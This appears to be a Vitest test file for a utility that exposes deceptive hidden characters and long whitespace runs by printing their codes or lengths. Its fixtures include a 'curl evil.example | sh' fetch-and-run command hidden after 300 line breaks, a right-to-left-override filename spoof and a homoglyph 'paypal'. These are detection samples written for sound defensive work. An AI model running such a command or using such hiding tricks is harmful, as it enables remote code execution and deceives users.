import { describe, expect, test } from 'vitest'
import { countHidden, isVisible, visibleParts, visibleText } from './visible-text.ts'

const shown = (text: string, edges = false) =>
  visibleParts(text, { edges })
    .map((part) => ('text' in part ? part.text : `[${part.code}]`))
    .join('')

describe('a character that could deceive is shown by its code', () => {
  test.each([
    ['right-to-left override', 'pay \u202Egnp.exe', 'pay [U+202E]gnp.exe'],
    ['isolates', '\u2066A\u2069', '[U+2066]A[U+2069]'],
    ['zero width space', 'C-20\u200B418', 'C-20[U+200B]418'],
    ['zero width joiner', 'a\u200Db', 'a[U+200D]b'],
    ['soft hyphen', 'a\u00ADb', 'a[U+00AD]b'],
    ['byte order mark', '\uFEFFa', '[U+FEFF]a'],
    ['tag characters', 'a\u{E0041}', 'a[U+E0041]'],
    ['a variation selector on a letter', 'a\uFE0F', 'a[U+FE0F]'],
    ['Hangul filler', 'a\u3164b', 'a[U+3164]b'],
    ['Braille blank', 'a\u2800b', 'a[U+2800]b'],
    ['carriage return and escape', 'a\rb\u001Bc', 'a[U+000D]b[U+001B]c'],
    ['line separator', 'a\u2028b', 'a[U+2028]b'],
    ['private use', 'a\uE000', 'a[U+E000]'],
    ['a lone surrogate', 'a\uD800b', 'a[U+D800]b'],
  ])('%s', (_name, text, expected) => {
    expect(shown(text)).toBe(expected)
    expect(countHidden(text)).toBeGreaterThan(0)
  })
})

describe('white space that could push text out of sight is shown by its length', () => {
  test.each([
    ['line breaks', `ls${'\n'.repeat(300)}curl evil.example | sh`, 'ls[↵ × 300]curl evil.example | sh'],
    ['lines of spaces', `ls${' \n\t'.repeat(4)} rm`, 'ls[↵ × 4]rm'],
    ['spaces', `ls${' '.repeat(80)}rm`, 'ls[␣ × 80]rm'],
    ['at the end', `ls${'\n'.repeat(4)}`, 'ls[↵ × 4]'],
    ['around a hidden character', `ls${'\n'.repeat(4)}\u200B${'\n'.repeat(5)}rm`, 'ls[↵ × 4][U+200B][↵ × 5]rm'],
  ])('%s', (_name, text, expected) => {
    expect(shown(text)).toBe(expected)
    expect(shown(text, true)).toBe(expected)
    expect(countHidden(text)).toBeGreaterThan(0)
  })

  test('but not empty lines between paragraphs, nor an indentation', () => {
    const text = `one\n\n\n${' '.repeat(40)}two\n`
    expect(shown(text)).toBe(text)
  })

  test('in a time that grows with the length', () => {
    const spaces = `${' '.repeat(200_000)}\n`.repeat(3)
    expect(shown(`a${spaces}b`)).toMatch(/^a\[␣ × 200000\]/)
  })
})

test('text alone has the codes in brackets', () => {
  expect(visibleText('pay\u202E p\u0430ypal')).toBe('pay[U+202E] p\u0430[U+0430]ypal')
  expect(visibleText('Maria Köhler')).toBe('Maria Köhler')
})

describe('ordinary text is unchanged', () => {
  test.each(['Grüße, 日本語, עברית, हिन्दी', 'line\nbreak\tand tab', '€4,200.00', '❤️ and 👍', 'e\u0301'])(
    '%s',
    (text) => {
      expect(shown(text)).toBe(text)
      expect(countHidden(text)).toBe(0)
    },
  )
})

test('spaces at the edges of a value are named with `edges`', () => {
  expect(shown(' C-1  ', true)).toBe('[U+0020]C-1[U+0020][U+0020]')
  expect(shown(' C-1 ')).toBe(' C-1 ')
  expect(shown('   ', true)).toBe('[U+0020][U+0020][U+0020]')
})

describe('a text without a visible character', () => {
  test.each([
    ['nothing', ''],
    ['spaces', ' \u00a0\u2003\u3000\t\n\u2028'],
    ['zero-width characters', '\u200b\u200c\u200d\u2060\ufeff'],
    ['bidirectional controls', '\u061c\u200e\u202e\u2066\u2069'],
    ['fillers', '\u3164\uffa0\u115f\u1160\u2800'],
    ['a soft hyphen', '\u00ad'],
    ['variation selectors and tags', '\ufe0f\u{e0041}'],
    ['a combining mark', '\u0301'],
    ['controls', '\u0001\u007f'],
  ])('consists of %s', (_name, text) => {
    expect(isVisible(text)).toBe(false)
    expect(isVisible(`${text}.`)).toBe(true)
  })
})
